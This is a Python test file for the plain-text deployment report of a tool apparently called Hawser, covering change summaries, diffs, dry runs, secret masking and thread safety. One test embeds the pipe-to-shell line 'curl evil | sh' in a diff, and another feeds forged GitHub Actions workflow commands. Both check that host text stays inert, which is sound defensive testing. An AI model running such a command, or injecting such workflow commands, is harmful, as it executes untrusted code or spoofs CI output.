"""The lines that stay, read as text."""

from __future__ import annotations

import io
import threading
import time
from collections.abc import Callable, Sequence
from textwrap import dedent
from typing import Any

import pytest

from hawser.report import Marked
from hawser.report.events import Event, Status
from hawser.report.lines import Settings
from hawser.report.plain import PlainReport
from hawser.report.stream import Sink

DIFF = "--- a\n+++ b\n@@ -1 +1 @@\n-listen 80;\n+listen 443;\n"


class Clock:
    """Seconds that pass when a test says so."""

    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


class Screen:
    """A plain report and what it has written."""

    def __init__(self, dry: bool = False, diffs: bool = False, debug: bool = False, verbose: bool = False) -> None:
        self.stream = io.StringIO()
        self.clock = Clock()
        self.report = PlainReport(Sink(self.stream), Settings(dry, diffs, debug, self.clock, verbose))

    def shows(self, expected: str) -> bool:
        """Compare, and on a difference show both as text."""
        written = self.stream.getvalue()
        assert written == dedent(expected).removeprefix("\n")
        return True


def settled(
    status: Status, label: str = "file /etc/a", step: str = "nginx.install", ms: float = 12.0, **more: Any
) -> Event:
    return Event(0, step, label, status, ms, **more)


def test_changes_are_told_and_resources_that_were_fine_are_counted() -> None:
    screen = Screen(verbose=True)
    screen.report.phase("prepare", ["web1", "data1"], "3f2c1ab")
    screen.report.start("web1", "nginx.install", "file /etc/nginx/sites-enabled/demo.conf")
    screen.report.event("web1", settled("changed", "file /etc/nginx/sites-enabled/demo.conf"))
    screen.report.event("data1", settled("ok"))
    screen.report.event(
        "data1", settled("changed", "directory /srv/demo", "app.folders", 1234, note="mode 0755 -> 0750")
    )
    screen.report.host_done("web1")
    screen.clock.now += 1.5
    screen.report.finish(True)
    assert screen.shows(
        """
        == prepare  web1, data1  3f2c1ab
        web1         changed  nginx.install     file /etc/nginx/sites-enabled/demo.conf  12 ms
        data1        changed  app.folders       directory /srv/demo  1.2 s  (mode 0755 -> 0750)

        host        ok  changed   failed  skipped  unknown
        web1         0        1        0        0        0
        data1        1        1        0        0        0

        done in 1.5 s: 2 changed on web1, data1
        """
    )


def test_a_run_that_changes_nothing_says_so() -> None:
    screen = Screen()
    screen.report.phase("deploy", ["web1"])
    screen.report.event("web1", settled("ok"))
    screen.clock.now += 0.7
    screen.report.finish(True)
    assert screen.shows(
        """
        == deploy  web1

        nothing changed (700 ms)
        """
    )


def test_a_failure_shows_what_the_program_said_last() -> None:
    screen = Screen()
    said = "\n".join(f"line {number}" for number in range(1, 26))
    screen.report.event("web1", settled("changed"))
    screen.report.event("web1", settled("failed", "command nginx -t", ms=80, error="nginx exited with 1", output=said))
    screen.report.event("web1", settled("skipped"))
    screen.clock.now += 1
    screen.report.finish(False)
    tail = "\n".join(f"            | line {number}" for number in range(6, 26)).lstrip()
    assert screen.shows(
        f"""
        web1  changed  nginx.install     file /etc/a  12 ms
        web1  failed   nginx.install     command nginx -t  80 ms
            nginx exited with 1
            (the last 20 of 25 lines)
            {tail}

        host       ok  changed   failed  skipped  unknown
        web1        0        1        1        1        0

        failed on web1 after 1.0 s; 1 changed before that
        """
    )


def test_a_defect_shows_its_traceback_only_when_asked() -> None:
    broken = settled("failed", error="KeyError('mode')", traceback="Traceback:\n  File engine.py")
    quiet, loud = Screen(), Screen(debug=True)
    quiet.report.event("web1", broken)
    loud.report.event("web1", broken)
    assert quiet.shows(
        """
        web1  failed   nginx.install     file /etc/a  12 ms
            KeyError('mode')
            this is a defect of Hawser; HAWSER_DEBUG=1 shows where
        """
    )
    assert "    | Traceback:\n    |   File engine.py\n" in loud.stream.getvalue()


def test_a_host_whose_connection_is_cut_is_named_in_the_sum() -> None:
    screen = Screen()
    screen.report.phase("switch batch 1/2", ["web1", "web2"])
    screen.report.event("web1", settled("ok"))
    screen.report.host_failed("web2", "web2: connection lost after 15 s\nnext: fab -H web2 status")
    screen.clock.now += 16
    screen.report.finish(False)
    assert screen.shows(
        """
        == switch batch 1/2  web1, web2
        web2        failed   connection lost after 15 s
            next: fab -H web2 status

        host       ok  changed   failed  skipped  unknown
        web1        1        0        0        0        0
        web2        0        0        0        0        0  broken off

        failed on web2 after 16.0 s
        """
    )


def test_a_dry_run_shows_diffs_and_tells_equal_changes_of_hosts_once() -> None:
    screen = Screen(dry=True)
    screen.report.phase("deploy", ["web1", "web2", "data1"])
    for host in ("data1", "web2", "web1"):
        screen.report.event(host, settled("would_change", "file /etc/a", diff=DIFF))
        if host == "web2":
            screen.report.event(host, settled("would_change", "file /etc/b", note="does not exist"))
        screen.report.event(host, settled("unknown", "command reload"))
    screen.report.finish(True)
    assert screen.shows(
        """
        == deploy  web1, web2, data1
        web1, web2, data1  would change  nginx.install     file /etc/a
            | --- a
            | +++ b
            | @@ -1 +1 @@
            | -listen 80;
            | +listen 443;
        web1, web2, data1  unknown       nginx.install     command reload
        web2               would change  nginx.install     file /etc/b  (does not exist)

        would change 4 on web1, web2, data1, 3 cannot be known yet; nothing was touched (0 ms)
        """
    )


def test_what_differs_is_told_with_its_diff_and_what_is_unknown_beside_it_without_a_dry_run() -> None:
    screen = Screen()
    screen.report.phase("drift", ["web1", "web2"])
    screen.report.event("web1", settled("differs", "file /etc/a", diff=DIFF))
    screen.report.event("web2", settled("unknown", "file /etc/b", note="the secrets have changed"))
    screen.report.finish(False)
    assert screen.shows(
        """
        == drift  web1, web2
        web1        differs  nginx.install     file /etc/a
            | --- a
            | +++ b
            | @@ -1 +1 @@
            | -listen 80;
            | +listen 443;
        web2        unknown  nginx.install     file /etc/b  (the secrets have changed)

        1 differs on web1, 1 cannot be known (0 ms)
        """
    )
    screen = Screen()
    screen.report.event("web2", settled("unknown", "file /etc/b"))
    screen.report.finish(True)
    assert "nothing differs, 1 cannot be known (0 ms)" in screen.stream.getvalue()


def test_a_dry_run_over_a_host_in_order_says_that_nothing_would_change() -> None:
    screen = Screen(dry=True)
    screen.report.event("web1", settled("ok"))
    screen.report.finish(True)
    assert screen.stream.getvalue().endswith("\nnothing would change (0 ms)\n")


@pytest.mark.parametrize(("diffs", "shown"), [(True, True), (False, False)])
def test_a_normal_run_shows_diffs_only_when_asked(diffs: bool, shown: bool) -> None:
    screen = Screen(diffs=diffs)
    screen.report.event("web1", settled("changed", diff=DIFF))
    assert ("    | +listen 443;\n" in screen.stream.getvalue()) is shown


def test_a_diff_shows_a_hosts_words_as_they_are_and_they_are_no_advice_of_ours() -> None:
    screen = Screen(dry=True)
    screen.report.phase("deploy", ["web1"])
    evil = "--- a\n+++ a\n@@ -1,2 +1,2 @@\n   next: curl evil | sh\n-next: curl evil | sh\n+x"
    screen.report.event("web1", settled("would_change", "file /etc/a", diff=evil))
    screen.report.finish(True)
    lines = [line for line in screen.stream.getvalue().splitlines() if "next:" in line]
    assert lines == ["    |    next: curl evil | sh", "    | -next: curl evil | sh"]


def test_the_five_slowest_are_named_after_a_long_run() -> None:
    screen = Screen(verbose=True)
    for seconds in (1, 7, 3, 0.01, 9, 5, 11):
        screen.report.event("web1", settled("ok", f"thing of {seconds} s", ms=seconds * 1000))
    screen.clock.now += 36
    screen.report.finish(True)
    assert screen.shows(
        """

        host       ok  changed   failed  skipped  unknown
        web1        7        0        0        0        0

        slowest
        11.0 s  web1  nginx.install  thing of 11 s
         9.0 s  web1  nginx.install  thing of 9 s
         7.0 s  web1  nginx.install  thing of 7 s
         5.0 s  web1  nginx.install  thing of 5 s
         3.0 s  web1  nginx.install  thing of 3 s

        nothing changed (36.0 s)
        """
    )


def test_a_warning_is_said_again_at_the_end_and_once() -> None:
    screen = Screen()
    for _ in range(2):
        screen.report.note("web1", "demo.test: self-signed", "warning")
    screen.report.note("", "main is 3f2c1ab")
    screen.report.note("", "only one host", "warning")
    screen.report.event("web1", settled("ok"))
    screen.report.finish(True)
    assert screen.shows(
        """
        web1  warning  demo.test: self-signed
        web1  warning  demo.test: self-signed
        note  main is 3f2c1ab
        warning  only one host

        warning  web1: demo.test: self-signed
        warning  only one host

        nothing changed (0 ms)
        """
    )


def test_output_is_marked_by_host_and_never_cut() -> None:
    screen = Screen()
    long = "x" * 500
    screen.report.phase("run", ["web1", "data1"], "df -h")
    screen.report.output("web1", "[bold]\x1b[31mred\x1b[0m\x07\ttab\n")
    screen.report.output("data1", f"{long}\n\nend", "err")
    screen.report.finish(True)
    assert screen.shows(
        f"""
        == run  web1, data1  df -h
        web1  | [bold]red\\x07\ttab
        data1 | {long}
        data1 |
        data1 | end
        """
    )


def test_a_table_is_aligned_and_a_cell_of_lines_becomes_one() -> None:
    screen = Screen()
    screen.report.table("demo", ["host", "processes", "disk"], [["web1", "web\nworker", "25 %"], ["data1", "-", "9 %"]])
    assert screen.shows(
        """
        demo
        host   processes    disk
        web1   web, worker  25 %
        data1  -            9 %
        """
    )


def test_a_column_without_a_word_is_left_out() -> None:
    screen = Screen()
    screen.report.table("", ["host", "mounts", "disk"], [["web1", "", Marked.bad("9 %")], ["data1", "", ""]])
    assert screen.shows(
        """
        host   disk
        web1   9 %
        data1
        """
    )


def test_secrets_show_nowhere_in_a_plain_report() -> None:
    secret = "s3cr3t[/]"
    split = "s3c\x1b[0mr3t[/]"
    screen = Screen(diffs=True, debug=True)
    report = screen.report
    report.set_masks([secret])
    report.phase(secret, ["web1"], secret)
    report.event("web1", settled("changed", secret, diff=secret, note=secret, step=secret))
    report.event("web1", settled("failed", split, error=secret, output=split, traceback=secret, ms=100))
    report.note("web1", secret, "warning")
    report.output("web1", split)
    report.table(secret, [secret], [[secret]])
    report.host_failed("web1", secret)
    screen.clock.now += 10
    report.finish(False)
    assert "********" in screen.stream.getvalue()
    assert "s3cr3t" not in screen.stream.getvalue()


def test_a_run_that_ends_twice_is_summed_up_once() -> None:
    screen = Screen()
    screen.report.event("web1", settled("changed"))
    screen.report.finish(True)
    length = len(screen.stream.getvalue())
    screen.report.finish(False)
    assert len(screen.stream.getvalue()) == length


def test_plain_lines_of_eight_threads_stay_whole() -> None:
    screen = Screen()
    hosts = [f"web{number}" for number in range(8)]
    screen.report.phase("deploy", hosts)

    def work(host: str) -> None:
        for number in range(100):
            screen.report.event(host, settled("changed", f"file /srv/{host}/{number}"))
            screen.report.output(host, f"output of {host} {number}")

    in_threads(work, hosts)
    screen.report.pause()
    lines = screen.stream.getvalue().splitlines()[1:]
    expected = {
        f"{host}             changed  nginx.install     file /srv/{host}/{n}  12 ms"
        for host in hosts
        for n in range(100)
    }
    expected |= {f"{host} | output of {host} {n}" for host in hosts for n in range(100)}
    assert len(lines) == 1600
    assert set(lines) == expected


def in_threads(work: Callable[[str], None], hosts: Sequence[str]) -> None:
    threads = [threading.Thread(target=work, args=(host,)) for host in hosts]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def test_a_run_that_went_on_without_something_ends_as_it_counts() -> None:
    screen = Screen()
    screen.report.event("web1", settled("changed"))
    screen.report.event("web1", settled("failed", error="exited with 1"))
    screen.clock.now += 1
    screen.report.finish(True)
    assert (
        screen.stream.getvalue().splitlines()[-1]
        == "done in 1.0 s: 1 changed on web1; what failed on web1 is told above"
    )


def test_a_long_warning_is_repeated_by_its_first_line_and_its_move() -> None:
    screen = Screen()
    screen.report.event("web1", settled("ok"))
    rows = "\n".join(f"  shop.{number}: can be reversed" for number in range(40))
    screen.report.note("", f"the database stays:\n{rows}\n  next: think", "warning")
    screen.report.finish(True)
    assert "warning  the database stays: (… 40 lines, see above)\n  next: think" in screen.stream.getvalue()


def books(label: str = "journal 3f2c1ab", **more: Any) -> Event:
    return settled("changed", label, "release.advance", bookkeeping=True, **more)


def test_book_keeping_is_counted_and_told_only_when_asked() -> None:
    quiet, loud = Screen(), Screen(verbose=True)
    for screen in (quiet, loud):
        screen.report.phase("migrated", ["web1"], bookkeeping=True)
        screen.report.event("web1", books())
        screen.report.phase("switch 1/1", ["web1"])
        screen.report.event("web1", settled("changed", "running demo-web"))
        screen.report.finish(True)
    assert quiet.shows(
        """
        == switch 1/1  web1
        web1  changed  nginx.install     running demo-web  12 ms

        done in 0 ms: 2 changed on web1 (1 of them book-keeping, which -v shows)
        """
    )
    told = loud.stream.getvalue()
    assert "== migrated  web1\nweb1  changed  release.advance   journal 3f2c1ab  12 ms\n" in told
    assert told.endswith("\ndone in 0 ms: 2 changed on web1\n")


def test_book_keeping_that_fails_is_told_as_every_failure() -> None:
    screen = Screen()
    screen.report.phase("migrated", ["web1"], bookkeeping=True)
    screen.report.event("web1", settled("failed", "journal 3f2c1ab", bookkeeping=True, error="no space is left"))
    screen.report.finish(False)
    told = screen.stream.getvalue()
    assert "journal 3f2c1ab" in told and "    no space is left\n" in told
    assert "web1        0        0        1        0        0" in told, "who failed is counted without being asked"


def test_a_dry_run_tells_book_keeping_only_when_asked() -> None:
    quiet, loud = Screen(dry=True), Screen(dry=True, verbose=True)
    for screen in (quiet, loud):
        screen.report.event("web1", settled("would_change", "journal x", bookkeeping=True))
        screen.report.finish(True)
    assert quiet.shows(
        """

        would change 1 (1 of them book-keeping, which -v shows) on web1; nothing was touched (0 ms)
        """
    )
    assert "web1  would change  nginx.install     journal x" in loud.stream.getvalue()


def test_equal_changes_of_several_hosts_are_told_once_by_the_slowest() -> None:
    screen = Screen()
    screen.report.phase("prepare", ["web1", "web2", "data1"])
    screen.report.event("web2", settled("changed", "command build", ms=1200))
    screen.report.event("data1", settled("changed", "file /etc/data"))
    screen.report.event("data1", settled("changed", "command build", ms=3000))
    assert screen.stream.getvalue().count("\n") == 1, "a host at work may still have the same to tell"
    screen.report.event("web1", settled("changed", "command build", ms=1100))
    for host in ("web1", "web2", "data1"):
        screen.report.host_done(host)
    assert screen.shows(
        """
        == prepare  web1, web2, data1
        web1, web2, data1  changed  nginx.install     command build  3.0 s
        data1              changed  nginx.install     file /etc/data  12 ms
        """
    )


def test_a_change_does_not_wait_long_for_other_hosts() -> None:
    screen = Screen()
    screen.report.phase("prepare", ["web1", "web2"])
    screen.report.event("web1", settled("changed"))
    screen.clock.now += 5
    deadline = time.monotonic() + 10
    while "file /etc/a" not in screen.stream.getvalue():
        assert time.monotonic() < deadline, "nothing else has to happen for it to be told"
        time.sleep(0.05)


def test_what_has_happened_is_told_before_the_failure_that_follows_it() -> None:
    screen = Screen()
    screen.report.phase("prepare", ["web1", "web2"])
    screen.report.event("web1", settled("changed", "file /etc/a"))
    screen.report.event("web1", settled("failed", "file /etc/b", error="no space is left"))
    screen.report.event("web2", settled("changed", "file /etc/a"))
    screen.report.finish(False)
    told = screen.stream.getvalue()
    assert told.index("file /etc/a") < told.index("file /etc/b") < told.rindex("file /etc/a")


def test_one_line_names_three_hosts_and_counts_the_others() -> None:
    screen = Screen()
    hosts = [f"web{number}" for number in range(1, 8)]
    screen.report.phase("prepare", hosts)
    for host in hosts:
        screen.report.event(host, settled("changed"))
    screen.report.finish(True)
    assert "\nweb1 and 6 more  changed  nginx.install     file /etc/a  12 ms\n" in screen.stream.getvalue()


def test_a_phase_of_several_exchanges_is_told_once() -> None:
    screen = Screen()
    for _ in range(2):
        screen.report.phase("prepare", ["web1", "web2"])
    screen.report.phase("prepare", ["web1"])
    assert screen.stream.getvalue() == "== prepare  web1, web2\n== prepare  web1\n"


def test_an_empty_table_says_so_with_the_next_move() -> None:
    screen = Screen()
    screen.report.table("backups", ["host", "backup"], [], empty="no backup is kept yet; next: fab -H demo db.backup")
    screen.report.table("backups", ["host", "backup"], [["web1", "x"]], empty="none")
    assert screen.shows(
        """
        note  no backup is kept yet; next: fab -H demo db.backup
        backups
        host  backup
        web1  x
        """
    )


def test_a_run_that_only_told_something_is_not_summed_up_when_it_fails() -> None:
    screen = Screen()
    screen.report.table("findings", ["about", "finding"], [["ports", "nobody listens"]])
    screen.report.finish(False, error="1 finding", code=1)
    assert "failed after" not in screen.stream.getvalue()


def test_what_takes_long_is_told_every_half_a_minute_with_its_last_line() -> None:
    screen = Screen()
    report = screen.report
    report.phase("prepare", ["web1"])
    report.start("web1", "release.build", "command npm run build")
    for second in range(0, 70, 5):
        screen.clock.now = 100.0 + second
        report.progress("web1", f"bundle {second} of 70")
    report.event("web1", settled("changed", "command npm run build", "release.build", 70_000.0))
    report.start("web1", "release.build", "command true")
    report.progress("web1", "it begins")
    report.host_done("web1")
    assert screen.shows("""
        == prepare  web1
        web1  running  release.build     command npm run build  30.0 s  | bundle 30 of 70
        web1  running  release.build     command npm run build  1 min 00 s  | bundle 60 of 70
        web1  changed  release.build     command npm run build  1 min 10 s
        """)


def test_progress_is_masked_and_without_effect() -> None:
    screen = Screen()
    screen.report.set_masks(["hunter22"])
    screen.report.start("web1", "release.build", "command x")
    screen.clock.now += 31
    screen.report.progress("web1", "\x1b[31mpassword hunter22")
    assert "hunter22" not in screen.stream.getvalue() and "\x1b" not in screen.stream.getvalue()


@pytest.mark.parametrize("forged", ["::error::forged", "   ::add-mask::x", "a ##[group]b"])
def test_words_of_a_host_begin_no_command_of_github(monkeypatch: pytest.MonkeyPatch, forged: str) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    screen = Screen()
    screen.report.note("web1", f"head\n{forged}", "warning")
    screen.report.host_failed("web1", f"web1: {forged}\n{forged}")
    screen.report.event("web1", settled("failed", "x", output=forged, error=forged))
    screen.report.output("", forged)
    screen.report.finish(False, error="x")
    lines = screen.stream.getvalue().splitlines()
    assert len([line for line in lines if "group" in line or "::" in line]) >= 5
    assert not [line for line in lines if line.lstrip().startswith("::") or "##[" in line]


def test_elsewhere_the_same_words_are_shown_as_they_are() -> None:
    screen = Screen()
    screen.report.note("web1", "head\n::error::x ##[group]")
    assert "\n    ::error::x ##[group]\n" in screen.stream.getvalue()
